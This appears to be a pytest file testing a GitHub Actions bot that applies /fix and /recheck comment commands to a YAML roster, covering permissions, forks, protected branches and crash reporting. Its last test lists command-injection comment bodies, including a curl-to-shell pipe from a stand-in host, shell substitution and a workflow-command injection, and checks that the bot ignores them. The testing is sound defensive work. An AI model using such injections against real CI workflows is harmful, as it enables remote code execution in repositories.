"""Commands in comments as they run: the real workflow, on the event of a comment."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from standin import answers, api, pulls
from workflows.acting import REPOSITORY, Community, Outcome

OWNER = REPOSITORY.partition("/")[0]
POLICY = "roster: partners.yaml\nrules: {unsorted: off}\n"
TRACKED = "https://{}.example/?utm_source=roster"
ROLL = f"- name: Alder\n- name: Birch\n  website: {TRACKED.format('birch')}\n- name: Pine\n"
NEW = f"- name: Cedar\n  website: {TRACKED.format('cedar')}\n"
FIXED = ROLL + NEW.replace("?utm_source=roster", "")
BOT = "github-actions[bot] <41898282+github-actions[bot]@users.noreply.github.com>"


@pytest.fixture
def community(tmp_path: Path, github: api.State) -> Community:
    made = Community(tmp_path, github)
    made.commit({"policies/partners.yaml": POLICY, "partners.yaml": ROLL})
    github.roles[OWNER] = "admin"
    return made


def propose(
    community: Community, github: api.State, text: str = ROLL + NEW, *, fork: bool = False
) -> dict[str, Any]:
    base = community.git("rev-parse", "main")
    head = community.commit({"partners.yaml": text}, branch="change")
    community.git("checkout", "--quiet", "main")
    where = (
        {"owner": "newcomer", "repository_id": 77} if fork else {"owner": OWNER, "repository_id": 1}
    )
    return pulls.pull(github, head=head, base=base, **where)  # type: ignore[arg-type]


def say(
    community: Community, github: api.State, pull: dict[str, Any], body: str, *, by: str
) -> tuple[Outcome, int]:
    """Comment on a pull request, and let the workflow run that GitHub would start."""
    comment = github.add_comment(pull["number"], body, author=by)
    payload = json.loads((pulls.EVENTS / "issue_comment.created.json").read_text(encoding="utf-8"))
    payload["issue"] |= github.issues[pull["number"] - 1]
    payload["comment"] |= comment
    payload["sender"] |= answers.user(by)
    payload["repository"]["default_branch"] = "main"
    outcome = community.act(
        "rosters.yml",
        "issue_comment",
        payload=payload,
        ref="main",
        GITHUB_RUN_ID="7",
        STANDIN_ARTIFACTS=str(community.folder / "artifacts"),
    )
    return outcome, comment["id"]


def reactions(github: api.State, comment: int) -> list[str]:
    return [each["content"] for each in github.reactions.values() if each["comment"] == comment]


def replies(github: api.State, pull: dict[str, Any]) -> list[str]:
    thread = github.comments[pull["number"]]
    mine = [each["body"] for each in thread if each["user"]["login"] == github.login]
    return [
        body.partition(" -->\n")[2]
        for body in mine
        if not body.startswith("<!-- rollkeeper:pull-request")
    ]


def branch(community: Community, *arguments: str) -> str:
    return community.git(*arguments, where=community.hosted)


def test_fix_by_the_author_is_one_commit_that_fixes_what_the_pull_request_introduced(
    community: Community, github: api.State
) -> None:
    pull = propose(community, github)
    head = pull["head"]["sha"]
    outcome, comment = say(community, github, pull, "/fix", by=OWNER)
    assert outcome.status == 0, outcome.log
    assert branch(community, "show", "change:partners.yaml") == FIXED.strip()
    told = branch(community, "log", "-1", "--format=%P%n%an <%ae>%n%cn <%ce>%n%B", "change")
    subject = "Fix partners.yaml"
    assert told == f"{head}\n{BOT}\n{BOT}\n{subject}\n\nSigned-off-by: {BOT}"
    assert branch(community, "diff", "--name-only", head, "change") == "partners.yaml"
    assert reactions(github, comment) == ["eyes", "rocket"]
    (reply,) = replies(github, pull)
    assert reply.startswith(f"Fixed in {pull['head']['sha']}. GitHub starts no checks")
    report = github.comments[pull["number"]][-1]["body"]
    assert f'"head":"{pull["head"]["sha"]}"' in report.replace(" ", "")


@pytest.mark.parametrize("command", ["/fix", "/recheck"])
def test_a_stranger_is_refused(command: str, community: Community, github: api.State) -> None:
    """A12a: the one who is refused had a reply each time, and could have them without end."""
    pull = propose(community, github)
    head = pull["head"]["sha"]
    outcome, comment = say(community, github, pull, command, by="stranger")
    assert outcome.status == 0, outcome.log
    assert reactions(github, comment) == ["confused"]
    assert replies(github, pull) == []
    assert branch(community, "rev-parse", "change") == head
    assert len(github.written()) == 1
    assert (
        outcome.results.keys() & {"Fix the rosters", "Push the fixes", "Judge the change"} == set()
    )


def test_with_triage_access_a_pull_request_is_checked_again_but_not_fixed(
    community: Community, github: api.State
) -> None:
    github.roles["helper"] = "triage"
    pull = propose(community, github)
    _, refused = say(community, github, pull, "/fix", by="helper")
    assert reactions(github, refused) == ["confused"]
    outcome, comment = say(community, github, pull, "/recheck\r\n", by="helper")
    assert outcome.status == 0, outcome.log
    assert reactions(github, comment) == ["eyes", "rocket"]
    assert "### Rollkeeper" in github.comments[pull["number"]][-1]["body"]


def test_a_fork_gets_suggestions_and_is_told_why(community: Community, github: api.State) -> None:
    pull = propose(community, github, fork=True)
    github.roles["maintainer"] = "maintain"
    outcome, comment = say(community, github, pull, "/fix", by="maintainer")
    assert outcome.status == 0, outcome.log
    (review,) = github.reviews
    assert "because the branch is in another repository" in review["body"]
    assert review["commit_id"] == pull["head"]["sha"]
    (suggested,) = review["comments"]
    assert suggested["body"] == "```suggestion\n  website: https://cedar.example/\n```"
    assert branch(community, "rev-parse", "change") == pull["head"]["sha"]
    assert reactions(github, comment) == ["eyes", "rocket"]


def test_a_protected_branch_gets_suggestions(community: Community, github: api.State) -> None:
    github.protected.add("refs/heads/change")
    pull = propose(community, github)
    outcome, _ = say(community, github, pull, "/fix", by=OWNER)
    assert outcome.status == 0, outcome.log
    (review,) = github.reviews
    assert "because the branch is protected" in review["body"]


def test_an_author_who_may_only_read_gets_suggestions(
    community: Community, github: api.State
) -> None:
    """E1: a branch of the repository is written to for a member who may only read it."""
    github.roles[OWNER] = "read"
    pull = propose(community, github)
    head = pull["head"]["sha"]
    outcome, _ = say(community, github, pull, "/fix", by=OWNER)
    assert outcome.status == 0, outcome.log
    assert branch(community, "rev-parse", "change") == head
    (review,) = github.reviews
    assert "because only those with write access to this repository" in review["body"]


def test_nothing_to_fix_is_said(community: Community, github: api.State) -> None:
    pull = propose(community, github, ROLL + "- name: Cedar\n")
    outcome, comment = say(community, github, pull, "/fix", by=OWNER)
    assert outcome.status == 0, outcome.log
    assert replies(github, pull) == ["Nothing here can be fixed automatically."]
    assert reactions(github, comment) == ["eyes", "rocket"]


def test_a_fix_that_crashes_is_reported(community: Community, github: api.State) -> None:
    pull = propose(community, github)
    community.git("checkout", "--quiet", "main")
    community.commit({"policies/partners.yaml": "rooster: x\n"})
    outcome, comment = say(community, github, pull, "/fix", by=OWNER)
    assert outcome.status != 0
    assert reactions(github, comment) == ["eyes", "confused"]
    assert replies(github, pull)[0].startswith("Rollkeeper crashed, and nothing was fixed.")


@pytest.mark.parametrize(
    "body",
    [
        "/fix && curl evil.example | sh",
        "$(touch stolen)/fix",
        "`touch stolen` /recheck",
        "/fix\n::set-output name=fix::true",
        "see https://docs.example/fix",
    ],
)
def test_a_comment_that_is_no_command_does_nothing(
    body: str, community: Community, github: api.State
) -> None:
    pull = propose(community, github)
    outcome, comment = say(community, github, pull, body, by=OWNER)
    assert outcome.status == 0, outcome.log
    assert (reactions(github, comment), github.requests) == ([], [])
    assert not list(community.folder.rglob("stolen"))
